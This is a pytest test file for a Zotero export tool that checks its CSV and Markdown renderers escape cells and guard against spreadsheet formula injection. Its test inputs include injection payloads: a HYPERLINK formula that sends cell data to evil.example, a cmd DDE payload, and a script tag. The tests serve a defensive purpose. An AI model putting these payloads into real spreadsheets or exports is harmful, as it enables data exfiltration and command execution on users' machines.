"""Exact output of the renderers: escaping, formula guard, determinism."""

from __future__ import annotations

import csv
import io
import re

from conftest import write_config
from factories import api_item, placement, write_json
from hypothesis import given
from hypothesis import strategies as st

from zotsync.export.csv import COLUMNS, render_csv
from zotsync.export.markdown import render_markdown
from zotsync.export.mdtext import cell
from zotsync.labels import labels_for
from zotsync.model import Link

# What a data cell drops: controls other than tab and line breaks, and bidi overrides.
UNSAFE_IN_DATA = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_csv_header_and_columns_follow_the_contract() -> None:
    row = placement(
        status="read",
        title='A, "quoted" title',
        authors=("Hopper, Grace", "ACME"),
        noted=True,
        links=(Link("Paper", "https://p"), Link("Note", "notes/a.md")),
        tags=("x", "y"),
        collections=("Top / Sub", "Other"),
        zotero_key="ABCD2345",
        year="2021",
        venue="OSDI'20",
        venue_source="dblp",
    )
    text = render_csv([row])
    assert text.splitlines()[0] == ",".join(COLUMNS)
    contract = "category,status,title,venue,year,why,authors,doi,url,note,noted,zotero_key,tags,collections"
    assert COLUMNS[:14] == tuple(contract.split(",")) and COLUMNS[14:] == (
        "venue_source",
        "cited_by",
        "retracted",
        "open_access_url",
    )
    assert "\r" not in text and text.endswith("\n")
    (parsed,) = list(csv.DictReader(io.StringIO(text)))
    assert parsed == {
        "category": "Cat",
        "status": "read",
        "title": 'A, "quoted" title',
        "venue": "OSDI'20",
        "year": "2021",
        "why": "",
        "authors": "Hopper, Grace; ACME",
        "doi": "",
        "url": "",
        "note": "notes/a.md",
        "noted": "true",
        "zotero_key": "ABCD2345",
        "tags": "x; y",
        "collections": "Top / Sub; Other",
        "venue_source": "dblp",
        "cited_by": "",
        "retracted": "",
        "open_access_url": "",
    }


def test_csv_guards_formula_injection_and_keeps_newlines_and_pipes() -> None:
    rows = [
        placement(title='=HYPERLINK("http://evil")'),
        placement(title="+1", why="-2", venue="@SUM(A1)", doi="\tx"),
        placement(title="line one\nline two | piped"),
    ]
    parsed = list(csv.DictReader(io.StringIO(render_csv(rows))))
    assert parsed[0]["title"] == '\'=HYPERLINK("http://evil")'
    assert (parsed[1]["title"], parsed[1]["why"], parsed[1]["venue"], parsed[1]["doi"]) == (
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
    )
    assert parsed[2]["title"] == "line one\nline two | piped"


def test_markdown_shape_counts_and_fallbacks() -> None:
    rows = [
        placement(
            status="read",
            noted=True,
            title="One",
            venue="OSDI'20",
            why="Because.",
            links=(Link("Paper", "https://a"), Link("Note", "notes/one.md")),
        ),
        placement(title="Two", year="2023", tags=("GPU", "IR")),
        placement(category="Other", title="Three"),
    ]
    assert render_markdown("My list", "About it.", rows, labels_for("zh")).decode() == (
        "# My list\n\nAbout it.\n\n共 3 个清单条目；已读 1，待读 2。\n\n"
        "## Cat\n\n| Status | Paper | Venue | Why It Matters | Links |\n| --- | --- | --- | --- | --- |\n"
        "| ✅ 📝 | One | OSDI'20 | Because. | [Paper](https://a) / [Note](notes/one.md) |\n"
        "| ⬜ | Two | 来源待补全 · 2023 | 标签：GPU / IR |  |\n\n"
        "## Other\n\n| Status | Paper | Venue | Why It Matters | Links |\n| --- | --- | --- | --- | --- |\n"
        "| ⬜ | Three | 来源待补全 |  |  |\n"
    )


def test_markdown_cells_cannot_break_the_table() -> None:
    row = placement(title="a | b\nc <script>x</script>", links=(Link("Paper", "https://x/a b)|c"),))
    line = render_markdown("t", "", [row], labels_for("zh")).decode().splitlines()[-1]
    assert line == (
        "| ⬜ | a \\| b c &lt;script&gt;x&lt;/script&gt; | 来源待补全 |  | [Paper](https://x/a%20b%29%7Cc) |"
    )


@given(st.text())
def test_any_cell_text_stays_in_one_cell(text: str) -> None:
    escaped = cell(text)
    assert "\n" not in escaped and "\r" not in escaped and "<" not in escaped
    assert escaped.replace("\\\\", "").count("|") == escaped.replace("\\\\", "").count("\\|")


# What a spreadsheet may skip before a formula, or shows as nothing: whitespace and zero-width characters.
BLANKS = "".join(c for c in map(chr, range(0x3001)) if c.isspace()) + "\xad\u061c\u180e\u200b\u200c\u200d"
BLANKS += "\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff"
TRIGGERS = ("=", "+", "-", "@")


def written(text: str) -> str:
    """A data cell as the CSV holds it: the unsafe characters dropped, then CR (and CRLF) as LF, then
    guarded (a control between CR and LF goes first: the two are one line break)."""
    text = UNSAFE_IN_DATA.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
    live = text.startswith(("\t", "\n")) or text.lstrip(BLANKS).startswith(TRIGGERS)
    return "'" + text if live else text


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_round_trips_any_text(titles: list[str]) -> None:
    rows = [placement(title=t) for t in titles]
    parsed = [r["title"] for r in csv.DictReader(io.StringIO(render_csv(rows), newline=""))]
    assert parsed == [written(t) for t in titles]


# Every character a data cell drops (below U+2070, where they all are), and the blanks.
DROPPED = "".join(c for c in map(chr, range(0x2070)) if UNSAFE_IN_DATA.match(c))
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


@given(
    prefix=st.text(st.sampled_from(DROPPED + BLANKS + "\r"), max_size=6),
    formula=st.sampled_from(FORMULAS),
    tail=st.text(max_size=5),
    field=st.sampled_from(["category", "title", "venue", "year", "why", "doi", "url", "zotero_key"]),
)
def test_no_dropped_or_blank_prefix_leaves_a_live_formula(
    prefix: str, formula: str, tail: str, field: str
) -> None:
    value = prefix + formula + tail
    row = placement(**{field: value}, authors=(value,), tags=(value,), collections=(value, "x"))
    (header, cells) = list(csv.reader(io.StringIO(render_csv([row]), newline="")))
    assert header == list(COLUMNS)
    for text in cells:
        if text.startswith("'"):
            continue  # guarded: a spreadsheet shows it as text
        assert not text.startswith(TRIGGERS) and not text.lstrip(BLANKS).startswith(TRIGGERS), text
        assert text == UNSAFE_IN_DATA.sub("", text)  # and nothing dropped is left to hide in
    guarded = dict(zip(header, cells, strict=True))[field]
    assert guarded == written(value) and guarded.startswith("'")


def test_atomic_writes_keep_a_files_mode_and_give_new_files_the_usual_one(tmp_path) -> None:
    import os
    import stat

    from zotsync.outputs import write_atomically

    old_mask = os.umask(0o022)
    try:
        fresh = tmp_path / "catalog.md"
        assert write_atomically(fresh, "one\n")
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o644  # readable by a web server, as the page must be
        fresh.chmod(0o640)
        assert write_atomically(fresh, "two\n") and not write_atomically(fresh, "two\n")
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o640
    finally:
        os.umask(old_mask)


def test_csv_collections_list_twenty_paths_then_an_ellipsis() -> None:
    paths = tuple(f"Top / Shelf {i}" for i in range(25))
    rows = [
        placement(collections=paths[:20]),
        placement(collections=paths[:21]),
        placement(collections=paths),
    ]
    cells = [r["collections"] for r in csv.DictReader(io.StringIO(render_csv(rows)))]
    twenty = "; ".join(paths[:20])
    assert cells == [twenty, twenty + "; …", twenty + "; …"]


DOI_FIELDS = {
    "NDQI2222": ("e Applications of Tensor Algebra", None),  # a title pasted into the DOI field
    "NDQI3333": ("10.1145", None),  # a prefix alone
    "NDQI4444": ("see 10.1145/3503222.3507723", None),
    "BARE2222": ("10.1145/3503222.3507723", "https://doi.org/10.1145/3503222.3507723"),
    "PRFX2222": ("doi: 10.1109/TPDS.2020.3030548", "https://doi.org/10.1109/TPDS.2020.3030548"),
    "HTTP2222": ("https://doi.org/10.1000.10/ABC", "https://doi.org/10.1000.10/ABC"),
    # an old Wiley DOI: its suffix holds < > ; and parentheses, percent-encoded in the target
    "SICI2222": (
        "10.1002/(SICI)1097-4636(199812)43:4<448::AID-JBM13>3.0.CO;2-W",
        "https://doi.org/10.1002/%28SICI%291097-4636%28199812%2943:4%3C448::AID-JBM13%3E3.0.CO;2-W",
    ),
}


def test_only_a_doi_becomes_a_doi_org_link(tmp_path, run) -> None:
    items = [api_item(key, key, DOI=doi) for key, (doi, _) in DOI_FIELDS.items()]
    write_json(tmp_path / "library.json", items)
    (tmp_path / "catalog.yaml").write_text("categories: []\n", encoding="utf-8")
    config = write_config(
        tmp_path,
        "source: {type: snapshot, path: library.json}\ncatalog: catalog.yaml\nstore: store.sqlite\n"
        "exports: {dir: out, language: en}\n",
    )
    assert run("-q", "--config", str(config), "sync").code == 0
    page = (tmp_path / "out" / "catalog.md").read_text(encoding="utf-8")
    cells = [line.split(" | ") for line in page.splitlines() if line.startswith("| ⬜")]
    rows = {row[1]: row[4] for row in cells}  # the Links cell by title (each item is titled by its key)
    for key, (_, link) in DOI_FIELDS.items():
        zotero = f"[Zotero](zotero://select/library/items/{key})"
        assert rows[key] == (f"[Paper]({link}) / {zotero} |" if link else f"{zotero} |"), key
    data = csv.DictReader(io.StringIO((tmp_path / "out" / "catalog.csv").read_text(encoding="utf-8")))
    assert {row["zotero_key"]: row["doi"] for row in data} == {k: doi for k, (doi, _) in DOI_FIELDS.items()}
